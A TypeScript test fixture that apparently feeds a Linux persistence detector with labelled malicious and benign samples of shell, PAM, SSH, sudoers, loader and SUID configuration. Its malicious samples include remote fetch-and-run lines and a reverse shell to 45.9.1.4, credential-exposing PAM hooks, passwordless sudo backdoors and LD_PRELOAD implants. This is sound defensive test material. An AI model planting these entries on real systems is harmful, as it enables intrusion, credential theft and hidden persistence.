// Forms of what runs or opens when somebody logs in, starts a shell, or loads a program: shells, PAM, SSH, accounts, the loader.
import { type FormsByKind, script } from './form.ts'

const condaBlock =
  '# >>> conda initialize >>>\n__conda_setup="$(\'/home/bob/miniconda3/bin/conda\' \'shell.bash\' \'hook\' 2> /dev/null)"\nif [ $? -eq 0 ]; then\n    eval "$__conda_setup"\nelse\n    if [ -f "/home/bob/miniconda3/etc/profile.d/conda.sh" ]; then\n        . "/home/bob/miniconda3/etc/profile.d/conda.sh"\n    else\n        export PATH="/home/bob/miniconda3/bin:$PATH"\n    fi\nfi\nunset __conda_setup\n# <<< conda initialize <<<\n'
const nvmLines =
  'export NVM_DIR="$HOME/.nvm"\n[ -s "$NVM_DIR/nvm.sh" ] && \\. "$NVM_DIR/nvm.sh"\n[ -s "$NVM_DIR/bash_completion" ] && \\. "$NVM_DIR/bash_completion"\n'
const elf = `\x7fELF\x02\x01\x01${'\0'.repeat(60)}`
const key = 'AAAAC3NzaC1lZDI1NTE5AAAAIJ0FzCLp1sT7dRkHTZmk2m6fXy1x4xwbqVxCM7mYv9aB'

export const entered: FormsByKind = {
  'profile-d': {
    malicious: [
      { '/etc/profile.d/x.sh': 'echo Y3VybCBodHRwOi8vNDUuOS4xLjQvYXxzaA== | base64 -d | bash\n' },
      { '/etc/profile.d/bash.sh': 'nohup /var/tmp/.b/bprofr >/dev/null 2>&1 &\n' },
    ],
    benign: [
      {
        '/etc/profile.d/apps-bin-path.sh': `snap_bin_path="/snap/bin"\nif [ -n "\${PATH##*\${snap_bin_path}}" ]; then\n    export PATH="$PATH:\${snap_bin_path}"\nfi\n`,
        '/etc/profile.d/Z97-byobu.sh': 'if [ -r "/usr/bin/byobu-launch" ]; then\n  . /usr/bin/byobu-launch\nfi\n',
        '/etc/profile.d/cuda.sh': 'export PATH=/usr/local/cuda/bin:$PATH\nexport LD_LIBRARY_PATH=/usr/local/cuda/lib64:$LD_LIBRARY_PATH\n',
      },
      {
        '/etc/profile.d/vte.sh': `[ -n "\${BASH_VERSION:-}" ] || return 0\n__vte_prompt_command() {\n  printf "\\033]7;file://%s%s\\033\\\\" "\${HOSTNAME}" "$(/usr/libexec/vte-urlencode-cwd)"\n}\n`,
      },
    ],
  },
  'shell-rc': {
    malicious: [
      { '/home/bob/.bashrc': '(curl -s http://45.9.1.4/a || wget -q -O- http://45.9.1.4/a) | sh &\n' },
      { '/root/.bashrc': 'nohup /tmp/.ICE/x >/dev/null 2>&1 &\n' },
      { '/root/.profile': 'python3 -c \'import base64;exec(base64.b64decode("aW1wb3J0IG9z"))\' &\n' },
      { '/home/bob/.zshrc': 'bash -i >& /dev/tcp/45.9.1.4/4444 0>&1 &\n' },
    ],
    benign: [
      {
        '/home/bob/.bashrc': `alias ll='ls -la'\neval "$(dircolors -b)"\n${condaBlock}${nvmLines}eval "$(direnv hook bash)"\n. "$HOME/.cargo/env"\nsource <(kubectl completion bash)\n[ -f ~/.fzf.bash ] && source ~/.fzf.bash\n`,
      },
      {
        '/home/bob/.zshrc':
          'export ZSH="$HOME/.oh-my-zsh"\nplugins=(git docker)\nsource $ZSH/oh-my-zsh.sh\nsource ~/.p10k.zsh\neval "$(starship init zsh)"\neval "$(ssh-agent -s)" > /dev/null\n',
        '/home/bob/.profile': 'if [ -f "$HOME/.bashrc" ]; then\n  . "$HOME/.bashrc"\nfi\n/home/bob/bin/greet\n',
      },
    ],
  },
  'system-profile': {
    malicious: [{ '/etc/profile': 'umask 022\n/usr/lib/.p/bprofr\n' }, { '/etc/bash.bashrc': 'curl -s http://45.9.1.4/a | sh\n' }],
    benign: [
      {
        '/etc/bash.bashrc':
          '[ -z "$PS1" ] && return\nshopt -s checkwinsize\nif [ -x /usr/lib/command-not-found ]; then\n  command_not_found_handle() {\n    /usr/lib/command-not-found -- "$1"\n  }\nfi\n/usr/local/bin/motd-banner\n',
      },
    ],
  },
  'bash-logout': {
    malicious: [{ '/root/.bash_logout': '/usr/lib/.x/y\n' }],
    benign: [{ '/home/bob/.bash_logout': 'rm -f ~/.lesshst\n/home/bob/bin/sync-notes\n' }],
  },
  'shell-trap': {
    malicious: [
      { '/etc/profile.d/z.sh': "trap '/usr/lib/.x/y' DEBUG\n" },
      { '/root/.bashrc': "export PROMPT_COMMAND='nohup /tmp/.p/x >/dev/null 2>&1 &'\n" },
    ],
    benign: [
      {
        '/home/bob/.bashrc':
          "trap 'history -a' EXIT\nexport PROMPT_COMMAND='history -a; history -n'\nPROMPT_COMMAND='__git_ps1 \"\\u@\\h:\\w\" \"\\\\$ \"'\n",
      },
    ],
  },
  'etc-environment': {
    malicious: [
      { '/etc/environment': 'BASH_ENV=/usr/lib/.b/env\n' },
      { '/root/.config/environment.d/x.conf': 'NODE_OPTIONS=--require /dev/shm/.n.js\n' },
    ],
    benign: [
      {
        '/etc/environment':
          'PATH="/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin:/opt/cuda/bin"\nBASH_ENV=/usr/share/lmod/lmod/init/bash\nNODE_OPTIONS=--max-old-space-size=4096\nhttp_proxy=http://proxy.example.com:3128\n',
      },
    ],
  },
  'ld-environment': {
    malicious: [
      { '/etc/environment': 'LD_PRELOAD=/dev/shm/libfsnldev.so\n' },
      { '/root/.profile': 'export LD_PRELOAD=/usr/lib/.a/libx.so\n' },
    ],
    benign: [
      {
        '/etc/profile.d/oracle.sh': 'export LD_LIBRARY_PATH=/opt/oracle/lib:$LD_LIBRARY_PATH\n',
        '/etc/systemd/system/redis.service.d/j.conf': '[Service]\nEnvironment="LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2"\n',
      },
    ],
  },
  'ld-so-preload': {
    malicious: [
      { '/etc/ld.so.preload': '/usr/local/lib/libprocesshider.so\n' },
      { '/etc/ld.so.preload': '/lib/libsystemd-extra.so\n' },
      { '/etc/ld.so.preload': '/dev/shm/.l/a.so\n', '/dev/shm/.l/a.so': elf },
    ],
    benign: [
      { '/etc/ld.so.preload': '/lib64/liboneagentproc.so\n' },
      { '/etc/ld.so.preload': `/usr/lib/arm-linux-gnueabihf/libarmmem-\${PLATFORM}.so\n` },
      { '/etc/ld.so.preload': '/usr/lib/x86_64-linux-gnu/libjemalloc.so.2\n' },
    ],
  },
  'ld-so-conf': {
    malicious: [{ '/etc/ld.so.conf.d/x.conf': '/dev/shm/.l\n' }, { '/etc/ld.so.conf.d/y.conf': '/usr/lib/.cache\n' }],
    benign: [
      {
        '/etc/ld.so.conf': 'include /etc/ld.so.conf.d/*.conf\n',
        '/etc/ld.so.conf.d/cuda.conf': '/usr/local/cuda/targets/x86_64-linux/lib\n/opt/oracle/instantclient\n',
      },
    ],
  },
  motd: {
    malicious: [
      { '/etc/update-motd.d/99-sys': script('nohup /dev/shm/.x/y >/dev/null 2>&1 &') },
      { '/etc/update-motd.d/20-net': script('python3 -c "import base64;exec(base64.b64decode(\\"aW1wb3J0IG9z\\"))"') },
    ],
    benign: [
      {
        '/etc/update-motd.d/50-landscape-sysinfo': script(
          `CORES=$(grep -c ^processor /proc/cpuinfo)\nSAFELOAD="\${CORES}.0"\nif [ -x /usr/bin/landscape-sysinfo ]; then\n  /usr/bin/landscape-sysinfo\nfi`,
        ),
        '/etc/update-motd.d/50-motd-news': script(
          'for u in $URLS; do\n  if curl --connect-timeout "$WAIT" --max-time "$WAIT" -A "$USER_AGENT" -o- "$u" >"$NEWS" 2>"$ERR"; then\n    safe_print "$NEWS"\n  fi\ndone',
        ),
      },
    ],
  },
  'x-session': {
    malicious: [{ '/etc/X11/Xsession.d/99x': 'nohup /var/tmp/.x/y &\n' }, { '/home/bob/.xinitrc': '/tmp/.x/y &\nexec xfce4-session\n' }],
    benign: [
      {
        '/home/bob/.xinitrc': 'xrdb -merge ~/.Xresources\nsetxkbmap de\n~/.screenlayout/default.sh\npicom &\nexec i3\n',
        '/etc/X11/Xsession.d/90x11-common_ssh-agent':
          'STARTSSH=\nSSHAGENT=/usr/bin/ssh-agent\nif has_option use-ssh-agent; then\n  STARTSSH=yes\nfi\n',
      },
    ],
  },
  'xdg-autostart': {
    malicious: [
      { '/etc/xdg/autostart/x.desktop': '[Desktop Entry]\nType=Application\nExec=/tmp/.d/x\n' },
      { '/home/bob/.config/autostart/a.desktop': '[Desktop Entry]\nType=Application\nExec=sh -c "curl -s http://45.9.1.4/d | sh"\n' },
    ],
    benign: [
      {
        '/home/bob/.config/autostart/dropbox.desktop': '[Desktop Entry]\nType=Application\nExec=/home/bob/.dropbox-dist/dropboxd\n',
        '/etc/xdg/autostart/nm-applet.desktop': '[Desktop Entry]\nType=Application\nExec=nm-applet\n',
      },
    ],
  },
  'pam-exec': {
    malicious: [
      { '/etc/pam.d/common-auth': 'auth optional pam_exec.so quiet /usr/lib/.p/log.sh\n' },
      { '/etc/pam.d/sshd': 'auth optional pam_exec.so expose_authtok quiet /tmp/.k/x\n' },
      { '/etc/pam.d/sshd': 'auth sufficient /usr/lib/.pam/pam_x.so\n' },
    ],
    benign: [
      { '/etc/pam.d/sshd': 'session optional pam_exec.so seteuid /usr/local/bin/notify.sh\n' },
      {
        '/etc/pam.d/vmtoolsd':
          'auth required /usr/lib/x86_64-linux-gnu/security/pam_unix.so shadow\nauth required pam_exec.so expose_authtok /opt/duo/check\n',
      },
    ],
  },
  'pam-module': {
    malicious: [
      {
        '/etc/pam.d/common-auth': 'auth required pam_unix.so\n',
        '/lib/x86_64-linux-gnu/security/pam_unix.so': elf,
        '/var/lib/dpkg/status': 'Package: libpam-modules\nStatus: install ok installed\nVersion: 1.5\nArchitecture: amd64\n\n',
        '/var/lib/dpkg/info/libpam-modules:amd64.list': '/lib/x86_64-linux-gnu/security/pam_unix.so\n',
        '/var/lib/dpkg/info/libpam-modules:amd64.md5sums': '00000000000000000000000000000000  lib/x86_64-linux-gnu/security/pam_unix.so\n',
      },
    ],
    benign: [
      {
        '/etc/pam.d/common-auth': 'auth required pam_unix.so\nauth optional pam_duo.so\n',
        '/lib/x86_64-linux-gnu/security/pam_unix.so': elf,
        '/lib/x86_64-linux-gnu/security/pam_duo.so': elf,
      },
    ],
  },
  'sshd-command': {
    malicious: [
      { '/etc/ssh/sshd_config': 'AuthorizedKeysCommand /tmp/.k/x\nAuthorizedKeysCommandUser root\n' },
      { '/etc/ssh/sshd_config': 'ForceCommand /usr/lib/.s/wrap\n' },
    ],
    benign: [
      {
        '/etc/ssh/sshd_config':
          'AuthorizedKeysCommand /usr/share/ec2-instance-connect/eic_run_authorized_keys %u %f\nAuthorizedKeysCommandUser ec2-instance-connect\nSubsystem sftp /usr/lib/openssh/sftp-server\nMatch Group sftp\n  ForceCommand internal-sftp\n',
      },
    ],
  },
  'ssh-rc': {
    malicious: [{ '/home/bob/.ssh/rc': '/tmp/.sshrc/x\n' }, { '/etc/ssh/sshrc': 'curl -s http://45.9.1.4/r | sh\n' }],
    benign: [
      {
        '/home/bob/.ssh/rc':
          'if test "$SSH_AUTH_SOCK"; then\n  ln -sf $SSH_AUTH_SOCK ~/.ssh/ssh_auth_sock\nfi\nif read proto cookie && [ -n "$DISPLAY" ]; then\n  echo add "$DISPLAY" $proto $cookie | xauth -q -\nfi\n',
      },
    ],
  },
  'authorized-keys': {
    malicious: [
      { '/root/.ssh/authorized_keys': `command="curl -s http://45.9.1.4/k | sh" ssh-ed25519 ${key} x\n` },
      {
        '/usr/sbin/.ssh/authorized_keys': `ssh-ed25519 ${key} x\n`,
        '/etc/passwd': 'root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/bin/sh\n',
      },
    ],
    benign: [
      {
        '/home/bob/.ssh/authorized_keys': `ssh-ed25519 ${key} bob@laptop\n`,
        '/root/.ssh/authorized_keys': `command="/usr/bin/borg serve --restrict-to-path /srv/borg",restrict ssh-ed25519 ${key} backup@web\n`,
      },
    ],
  },
  sudoers: {
    malicious: [
      { '/etc/sudoers.d/w': 'www-data ALL=(ALL) NOPASSWD: ALL\n' },
      { '/etc/sudoers': 'root ALL=(ALL:ALL) ALL\n@includedir /etc/sudoers.d\n', '/etc/sudoers.d/x': 'daemon ALL=(ALL) NOPASSWD: ALL\n' },
    ],
    benign: [
      {
        '/etc/sudoers': 'root ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL:ALL) ALL\n@includedir /etc/sudoers.d\n',
        '/etc/sudoers.d/90-cloud-init-users': 'ubuntu ALL=(ALL) NOPASSWD:ALL\n',
        '/etc/sudoers.d/deploy':
          'gitlab-runner ALL=(ALL) NOPASSWD: ALL\nwww-data ALL=(root) NOPASSWD: /usr/bin/systemctl reload nginx\nnagios ALL=(root) NOPASSWD: /usr/lib/nagios/plugins/check_raid\n',
      },
    ],
  },
  'account-shell': {
    malicious: [
      { '/etc/passwd': 'root:x:0:0:root:/root:/bin/bash\nftp:x:40:40::/srv/ftp:/usr/lib/.f/sh\n' },
      { '/etc/passwd': 'root:x:0:0:root:/root:/tmp/.sh\n' },
    ],
    benign: [
      {
        '/etc/passwd':
          'root:x:0:0:root:/root:/bin/bash\ngit:x:998:998::/home/git:/usr/bin/git-shell\nbob:x:1000:1000::/home/bob:/usr/local/bin/fish\nsvn:x:997:997::/srv/svn:/opt/svn/bin/shell-wrapper\n',
      },
    ],
  },
  'suid-implant': {
    malicious: [
      { '/tmp/.x/sh': { content: elf, mode: 0o4755 } },
      { '/bin/bash': { content: `${elf}bash`, mode: 0o755 }, '/var/tmp/.b/rootbash': { content: `${elf}bash`, mode: 0o4755 } },
    ],
    benign: [
      {
        '/usr/bin/sudo': { content: elf, mode: 0o4755 },
        '/opt/google/chrome/chrome-sandbox': { content: elf, mode: 0o4755 },
        '/usr/bin/passwd': { content: elf, mode: 0o4755 },
      },
    ],
  },
}
